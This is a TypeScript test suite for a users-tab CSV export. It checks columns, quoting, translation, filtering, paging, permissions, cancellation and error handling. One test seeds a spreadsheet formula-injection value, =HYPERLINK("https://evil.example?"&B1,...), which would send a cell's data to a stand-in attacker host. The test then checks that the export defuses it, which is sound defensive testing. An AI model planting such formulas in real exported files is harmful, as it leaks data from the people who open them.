import { expect } from 'chai';
import { MemoryAdapter } from '../../../src/adapters/memory.js';
import type { PersistenceAdapter, UserDirectory } from '../../../src/ports/persistence-adapter.js';
import { PersistenceError } from '../../../src/ports/persistence-error.js';
import { generateUsers } from '../../../stories/support/generate-users.js';
import { accountId, altered, deferred, fewUsers, laura, storeWith, viewers } from '../../support/accounts.js';
import { allByRole, byRole, hasRole } from '../../support/deep-query.js';
import { eventually } from '../../support/eventually.js';
import { UsersTabHarness } from './users-tab.harness.js';

const on = (store: ReturnType<typeof storeWith>) => new MemoryAdapter({ store, viewer: viewers.administrator });

function withUsers(adapter: PersistenceAdapter, changes: Partial<UserDirectory>): PersistenceAdapter {
  return altered(adapter, { users: { ...adapter.users!, ...changes } });
}

const show = async (adapter: PersistenceAdapter, properties = {}) => (await UsersTabHarness.show(adapter, properties)).listed();

interface SavedFile {
  name: string;
  blob: Blob;
}

/** The files that the page has the browser save, which keeps none of them while this is on. */
function catchFiles(): { files: SavedFile[]; stop(): void } {
  const files: SavedFile[] = [];
  const blobs = new Map<string, Blob>();
  const { createObjectURL } = URL;
  const { click } = HTMLAnchorElement.prototype;
  URL.createObjectURL = (blob: Blob) => {
    const url = createObjectURL.call(URL, blob);
    blobs.set(url, blob);
    return url;
  };
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    files.push({ name: this.download, blob: blobs.get(this.href)! });
  };
  return {
    files,
    stop() {
      URL.createObjectURL = createObjectURL;
      HTMLAnchorElement.prototype.click = click;
    },
  };
}

/** Its lines, where no cell has one in it. */
const linesOf = async ({ blob }: SavedFile) => (await blob.text()).trimEnd().split('\r\n');

describe('users-tab: export', () => {
  let caught: ReturnType<typeof catchFiles>;
  beforeEach(() => (caught = catchFiles()));
  afterEach(() => caught.stop());

  it('saves what is shown of all users, in words and whole instants, and nothing else of them', async () => {
    const secret = { ...laura, id: 'secret', name: 'Sofía, "Sofi" Núñez', email: 'sofi@mesa.example', role: 'owner', phone: '+34 600 000 000', mailingLists: ['product-news', 'unknown'] };
    const users = await show(on(storeWith(undefined, [...fewUsers, secret])));
    await users.press('Export');
    expect(users.text).to.contain('A CSV file of all 5 users').and.to.match(/It has, for each: Name, E-mail, Role, Status, Mailing lists, Invited, Invitation expires,? and Last active\./);
    await users.press('Export 5 users');
    await users.closed();
    const [file] = caught.files;
    expect(file.name).to.match(/^users-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.blob.type).to.equal('text/csv;charset=utf-8');
    expect([...new Uint8Array(await file.blob.slice(0, 3).arrayBuffer())], 'its byte order mark').to.deep.equal([0xef, 0xbb, 0xbf]);
    const lines = await linesOf(file);
    expect(lines.length).to.equal(6);
    expect(lines[0].replace('\uFEFF', '')).to.equal('Name,E-mail,Role,Status,Mailing lists,Invited,Invitation expires,Last active');
    expect(lines[1]).to.match(/^Ana Gómez,ana\.gomez@mesa\.example,Editor,Invited,,2026-11-23T10:00:00\.000Z,\d{4}-\d{2}-\d{2}T[\d:.]+Z,$/);
    expect(lines[5]).to.equal('"Sofía, ""Sofi"" Núñez",sofi@mesa.example,owner,Active,"Product news; unknown",,,2026-11-23T16:40:00.000Z');
    expect(users.said).to.contain('5 users exported.');
  });

  it('has the words of the page', async () => {
    const users = await UsersTabHarness.show(on(storeWith()), { lang: 'es' });
    await eventually(() => hasRole(users.root, 'button', 'Exportar'), 'it is Spanish');
    await users.press('Exportar');
    await users.press('Exportar 4 usuarios');
    await users.closed();
    const [header, first] = await linesOf(caught.files[0]);
    expect([header, first.split(',').slice(2, 4)]).to.deep.equal([header, ['Editor', 'Invitado']]);
    expect(header).to.contain('Nombre,Correo,Función,Estado');
    expect(caught.files[0].name).to.match(/^usuarios-/);
  });

  it('saves those who match, in the order of the table', async () => {
    const users = await show(on(storeWith()));
    await users.filter('Editor');
    await users.shows('Ana Gómez', 'Diego Ruiz');
    await users.press('Name');
    await users.shows('Diego Ruiz', 'Ana Gómez');
    await users.press('Export');
    expect(users.text).to.contain('all 2 users who match');
    await users.press('Export 2 users');
    await users.closed();
    expect((await linesOf(caught.files[0])).slice(1).map((line) => line.split(',')[0])).to.deep.equal(['Diego Ruiz', 'Ana Gómez']);
  });

  it('saves those who are selected, and keeps them so', async () => {
    const users = await show(on(storeWith()));
    for (const name of ['Noor Haddad', 'Ana Gómez']) byRole(users.root, 'checkbox', `Select ${name}`).click();
    await users.element.updateComplete;
    await users.press('Export selected');
    await users.press('Export 2 users');
    await users.closed();
    expect((await linesOf(caught.files[0])).slice(1).map((line) => line.split(',')[0])).to.deep.equal(['Noor Haddad', 'Ana Gómez']);
    expect(hasRole(users.root, 'button', 'Clear selection')).to.equal(true);
  });

  it('saves 5,000 over their pages, each once', async () => {
    const users = await show(on(storeWith(undefined, [...generateUsers(5_000)])));
    await users.press('Export');
    await users.press('Export 5,000 users');
    await eventually(() => users.said.includes('5,000 users exported.'), 'all are exported');
    const lines = await linesOf(caught.files[0]);
    expect([lines.length, new Set(lines).size]).to.deep.equal([5_001, 5_001]);
  });

  it('has no formula in it, whoever wrote a name', async () => {
    const bad = { ...laura, id: 'bad', email: 'bad@mesa.example', name: '=HYPERLINK("https://evil.example?"&B1,"Laura")', mailingLists: ['=1+1', '+34 600 000 000'] };
    const users = await show(on(storeWith(undefined, [bad])), { mailingLists: [] });
    await users.press('Export');
    await users.press('Export 1 user');
    await users.closed();
    const [, line] = await linesOf(caught.files[0]);
    expect(line).to.contain('"\'=HYPERLINK(""https://evil.example?""&B1,""Laura"")",').and.to.contain('"\'=1+1; +34 600 000 000"');
  });

  it('has what the host asks for beside that', async () => {
    const users = await show(on(storeWith(undefined, [{ ...laura, phone: '+34 600 000 000' } as never])), { exportColumns: [{ key: 'phone', label: 'Phone' }] });
    await users.press('Export');
    await users.press('Export 1 user');
    await users.closed();
    const [header, line] = await linesOf(caught.files[0]);
    expect([header.split(',').at(-1), line.split(',').at(-1)]).to.deep.equal(['Phone', '+34 600 000 000']);
  });

  it('is there for those who may read the list, unless the host takes it away', async () => {
    const reader = await show(new MemoryAdapter({ store: storeWith(), viewer: viewers.reader }), { viewer: viewers.reader });
    await reader.press('Export');
    await reader.press('Export 4 users');
    await reader.closed();
    expect(caught.files.length).to.equal(1);
    reader.element.noExport = true;
    await reader.element.updateComplete;
    expect(hasRole(reader.root, 'button', 'Export')).to.equal(false);
  });

  it('saves nothing where not all could be read, says so, and saves all on another try', async () => {
    const working = on(storeWith(undefined, generateUsers(2_500)));
    let isDown = true;
    const users = await show(withUsers(working, {
      listUsers: (request) => (isDown && request.limit === 1_000 && request.cursor ? Promise.reject(new PersistenceError('unavailable', 'Down.')) : working.users.listUsers(request)),
    }));
    await users.press('Export');
    await users.press('Export 2,500 users');
    await eventually(() => users.text.includes('No file was made'), 'it says so');
    expect([caught.files.length, users.recorder.details]).to.deep.equal([0, [{ code: 'unavailable', operation: 'list' }]]);
    isDown = false;
    await users.press('Try again');
    await eventually(() => users.said.includes('2,500 users exported.'), 'all are exported');
    expect((await linesOf(caught.files[0])).length).to.equal(2_501);
  });

  it('saves nothing where it is left while it reads, and says how far it was', async () => {
    const working = on(storeWith(undefined, generateUsers(2_500)));
    const late = deferred();
    const signals: AbortSignal[] = [];
    const users = await show(withUsers(working, {
      listUsers: async (request) => {
        if (request.limit === 1_000) signals.push(request.signal);
        if (request.limit === 1_000 && request.cursor) await late.promise;
        return working.users.listUsers(request);
      },
    }));
    await users.press('Export');
    await users.press('Export 2,500 users');
    await eventually(() => users.text.includes('1,000 of 2,500'), 'the first page was read');
    await users.press('Cancel');
    await users.closed();
    expect(signals.every(({ aborted }) => aborted), 'the adapter is told').to.equal(true);
    late.resolve();
    await users.settled();
    expect([caught.files.length, users.said.includes('exported')]).to.deep.equal([0, false]);
  });

  it('saves nothing of an account that was left meanwhile', async () => {
    const adapter = new MemoryAdapter({ accounts: { [accountId]: { users: [...fewUsers] }, other: { users: [...fewUsers] } }, viewer: viewers.administrator });
    const late = deferred();
    const users = await show(withUsers(adapter, { listUsers: (request) => (request.limit === 1_000 ? late.promise.then(() => adapter.users.listUsers(request)) : adapter.users.listUsers(request)) }));
    await users.press('Export');
    await users.press('Export 4 users');
    users.element.accountId = 'other';
    await users.element.updateComplete;
    await users.listed();
    late.resolve();
    await users.settled();
    expect([caught.files.length, users.dialog.open]).to.deep.equal([0, false]);
  });

  it('gives the focus back to its button', async () => {
    const users = await show(on(storeWith()));
    byRole(users.root, 'button', 'Export').focus();
    await users.press('Export');
    await users.press('Cancel');
    await users.closed();
    await users.element.updateComplete;
    expect(users.focused).to.equal('Export');
  });

  it('has nothing to export where there is nobody', async () => {
    const users = await show(on(storeWith(undefined, [])), { viewer: null });
    expect(allByRole(users.root, 'button', { name: 'Export' })).to.deep.equal([]);
  });
});
